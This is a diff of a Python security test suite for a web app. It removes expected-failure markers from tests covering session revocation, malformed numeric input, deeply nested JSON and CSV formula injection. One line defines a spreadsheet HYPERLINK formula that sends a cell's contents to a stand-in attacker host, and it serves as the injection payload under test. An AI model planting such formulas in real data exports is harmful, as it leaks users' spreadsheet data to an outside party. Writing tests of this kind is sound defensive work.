@@ -20,7 +20,6 @@ from tests.security import world as worlds
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x")'
 
 
-@pytest.mark.xfail(strict=True, reason="(b) revocable sessions")
 def test_a_copied_session_cookie_is_dead_after_sign_out(app, world, visitor):
     """Someone who copied the cookie before the owner signed out gets nothing with it."""
     app.config["WTF_CSRF_ENABLED"] = False  # the sign-out form's token is not the point here
@@ -32,7 +31,6 @@ def test_a_copied_session_cookie_is_dead_after_sign_out(app, world, visitor):
     assert thief.get("/admin/settings").status_code in (302, 401, 403)
 
 
-@pytest.mark.xfail(strict=True, reason="(c) unicode digits are a 5xx")
 @pytest.mark.parametrize("value", ["\u00b2", "\u2460"])
 def test_digits_int_cannot_read_are_a_bad_request(app, world, visitor, value):
     """`str.isdigit` takes superscripts and circled digits, `int` does not."""
@@ -42,7 +40,6 @@ def test_digits_int_cannot_read_are_a_bad_request(app, world, visitor, value):
         assert client.get(path, query_string={"limit": value}, headers=headers).status_code == 400
 
 
-@pytest.mark.xfail(strict=True, reason="(c) deep JSON is a 5xx")
 def test_json_nested_past_any_sane_depth_is_a_bad_request(app, world, visitor):
     """A body of 100,000 nested arrays: refused as malformed, no recursion error."""
     app.config["PROPAGATE_EXCEPTIONS"] = False
@@ -60,7 +57,6 @@ def test_exported_csv_never_carries_a_formula_contacts(app, world, visitor):
         _assert_no_formula(client.get(path, headers=headers).get_data(as_text=True), path)
 
 
-@pytest.mark.xfail(strict=True, reason="(c) CSV formula injection")
 def test_exported_csv_never_carries_a_formula_data_request(app, world):
     """A data-subject export's CSV neutralizes a formula in the person's data."""
     _name_the_contact(world, FORMULA)
